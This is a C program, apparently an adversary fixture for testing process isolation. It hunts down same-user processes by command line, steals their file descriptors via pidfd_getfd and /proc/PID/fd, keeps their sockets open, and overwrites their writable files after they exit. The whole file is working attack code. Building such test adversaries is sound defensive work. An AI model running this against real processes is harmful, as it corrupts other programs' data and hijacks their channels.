/*
 * A hostile neighbour: `descriptor-thief WORD TEXT SECONDS`. Looks again and again for other processes of its user whose
 * command line holds WORD, takes their descriptors by pidfd_getfd(2), keeps those of regular files that it can write to,
 * and writes TEXT over their beginning a hundred times a second once their processes are gone. Also tries /proc/PID/fd/N. Says each thing once, a line each: `seen PID`, `took PID FD`, `opened PID FD`, `refused ERRNO`,
 * `channel PID FD` for a socket that it keeps open.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

enum { MOST_FDS = 40, MOST_TAKEN = 256, MOST_PIDS = 64 };

static int taken[MOST_TAKEN], owners[MOST_TAKEN], count;
static int seen[MOST_PIDS], pids;

static int is_target(int pid, const char *word)
{
	char path[64], text[4096];
	struct stat stats;
	snprintf(path, sizeof path, "/proc/%d", pid);
	if (pid == getpid() || stat(path, &stats))
		return 0;
	snprintf(path, sizeof path, "/proc/%d/status", pid);
	FILE *status = fopen(path, "r");
	unsigned int uid = 0;
	int found = 0;
	while (status && fgets(text, sizeof text, status))
		if (sscanf(text, "Uid:\t%*u\t%u", &uid) == 1)
			found = uid == geteuid();
	if (status)
		fclose(status);
	if (!found)
		return 0;
	snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
	int file = open(path, O_RDONLY);
	ssize_t length = file < 0 ? -1 : read(file, text, sizeof text);
	if (file >= 0)
		close(file);
	return length > 0 && memmem(text, (size_t)length, word, strlen(word)) != NULL;
}

static void keep(int file, const char *how, int pid, int number)
{
	struct stat stats;
	int flags = fcntl(file, F_GETFL);
	if (fstat(file, &stats) == 0 && count < MOST_TAKEN) {
		if (S_ISREG(stats.st_mode) && (flags & O_ACCMODE) != O_RDONLY) {
			owners[count] = pid;
			taken[count++] = file;
			printf("%s %d %d\n", how, pid, number);
			return;
		}
		/* Its end never comes for who reads the other one. */
		if (S_ISSOCK(stats.st_mode) && number == 3) {
			owners[count] = pid;
			taken[count++] = file;
			printf("channel %d %d\n", pid, number);
			return;
		}
	}
	close(file);
}

static void say_refused(void)
{
	static int said;
	if (!said++)
		printf("refused %s\n", errno == EPERM    ? "EPERM"
				       : errno == EACCES ? "EACCES"
							 : strerror(errno));
}

static void rob(int pid)
{
	int handle = (int)syscall(SYS_pidfd_open, pid, 0);
	int first = 1;
	for (int i = 0; i < pids; i++)
		first &= seen[i] != pid;
	if (first && pids < MOST_PIDS) {
		seen[pids++] = pid;
		printf("seen %d\n", pid);
	}
	for (int number = 0; handle >= 0 && number < MOST_FDS; number++) {
		int file = (int)syscall(SYS_pidfd_getfd, handle, number, 0);
		if (file >= 0)
			keep(file, "took", pid, number);
		else if (errno == EPERM)
			say_refused();
		char path[64];
		snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, number);
		file = open(path, O_RDWR | O_NONBLOCK);
		if (file >= 0)
			keep(file, "opened", pid, number);
	}
	if (handle >= 0)
		close(handle);
}

int main(int argc, char **argv)
{
	if (argc != 4)
		return 2;
	time_t end = time(NULL) + atoi(argv[3]);
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("watching\n");
	while (time(NULL) < end) {
		DIR *processes = count < MOST_TAKEN / 2 ? opendir("/proc") : NULL;
		struct dirent *entry;
		while (processes && (entry = readdir(processes)))
			if (isdigit((unsigned char)entry->d_name[0]) &&
				is_target(atoi(entry->d_name), argv[1]))
				rob(atoi(entry->d_name));
		if (processes)
			closedir(processes);
		for (int i = 0; i < count; i++)
			if (kill(owners[i], 0))
				(void)!pwrite(taken[i], argv[2], strlen(argv[2]), 0);
		const struct timespec pause = {0, 10 * 1000 * 1000};
		nanosleep(&pause, NULL);
	}
	return 0;
}
